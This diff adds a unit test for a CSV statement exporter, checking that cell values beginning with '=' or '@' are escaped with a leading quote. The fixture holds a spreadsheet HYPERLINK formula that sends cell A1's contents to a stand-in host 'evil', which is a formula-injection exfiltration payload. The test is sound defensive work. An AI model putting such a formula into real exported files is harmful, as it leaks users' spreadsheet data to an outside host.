@@ -56,6 +56,16 @@ describe("statementCsv", () => {
       "",
     ]);
   });
+
+  it("prefixes a model id that a spreadsheet would run with '", () => {
+    const hostile = '=HYPERLINK("http://evil/?"&A1,"x")';
+    const byModel = [{ ...statement.byModel[1], model: hostile }, { ...statement.byModel[1], model: "@SUM(A1)" }];
+    const lines = statementCsv({ ...statement, byModel }).split("\r\n");
+    expect(lines.slice(3, 5)).toEqual([
+      'u_0000000000000001,2024-01,model,"\'=HYPERLINK(""http://evil/?""&A1,""x"")",,,,1,1,2,3,0,0,7,0.000000007',
+      "u_0000000000000001,2024-01,model,'@SUM(A1),,,,1,1,2,3,0,0,7,0.000000007",
+    ]);
+  });
 });
 
 describe("statementJson", () => {
